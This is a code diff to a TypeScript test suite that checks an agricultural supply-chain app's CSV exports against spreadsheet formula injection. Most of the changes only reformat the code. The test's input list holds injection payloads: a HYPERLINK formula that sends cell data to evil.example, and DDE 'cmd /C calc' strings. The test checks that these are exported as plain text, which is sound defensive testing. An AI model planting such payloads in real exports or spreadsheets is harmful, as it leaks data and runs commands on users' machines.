@@ -14,11 +14,22 @@ import { startTestApp, type TestApp } from './support/test-app.js';
 const HOSTILE = [
   '=HYPERLINK("http://evil.example/?x="&A1,"Bấm")',
   '+SUM(1,2)',
-  '-2+3+cmd|\' /C calc\'!A0',
-  '@SUM(1+1)*cmd|\' /C calc\'!A0',
+  "-2+3+cmd|' /C calc'!A0",
+  "@SUM(1+1)*cmd|' /C calc'!A0",
   '\t=1+1',
 ];
-const SHEETS = ['zones', 'cooperatives', 'households', 'plots', 'harvests', 'lots', 'contracts', 'inspections', 'targets', 'fulfilment'];
+const SHEETS = [
+  'zones',
+  'cooperatives',
+  'households',
+  'plots',
+  'harvests',
+  'lots',
+  'contracts',
+  'inspections',
+  'targets',
+  'fulfilment',
+];
 
 let api: TestApp;
 
@@ -56,12 +67,16 @@ function cells(csv: string): string[] {
   for (let i = 0; i < csv.length; i++) {
     const c = csv[i]!;
     if (quoted) {
-      if (c === '"' && csv[i + 1] === '"') (cell += '"'), i++;
-      else if (c === '"') quoted = false;
+      if (c === '"' && csv[i + 1] === '"') {
+        cell += '"';
+        i++;
+      } else if (c === '"') quoted = false;
       else cell += c;
     } else if (c === '"') quoted = true;
-    else if (c === ',' || c === '\n') out.push(cell), (cell = '');
-    else if (c !== '\r') cell += c;
+    else if (c === ',' || c === '\n') {
+      out.push(cell);
+      cell = '';
+    } else if (c !== '\r') cell += c;
   }
   return out;
 }
@@ -70,7 +85,7 @@ describe('exports', () => {
   it('never hands a spreadsheet a formula: hostile names are written as text in every CSV', async () => {
     let seen = 0;
     for (const sheet of SHEETS) {
-      const year = sheet === "targets" || sheet === "inspections" ? "?year=2026" : "";
+      const year = sheet === 'targets' || sheet === 'inspections' ? '?year=2026' : '';
       const response = await api.get(`/exports/${sheet}.csv${year}`);
       expect(response.status, `${sheet}: ${JSON.stringify(response.body)}`).toBe(200);
       for (const cell of cells(String(response.body).replace(/^\uFEFF/, ''))) {
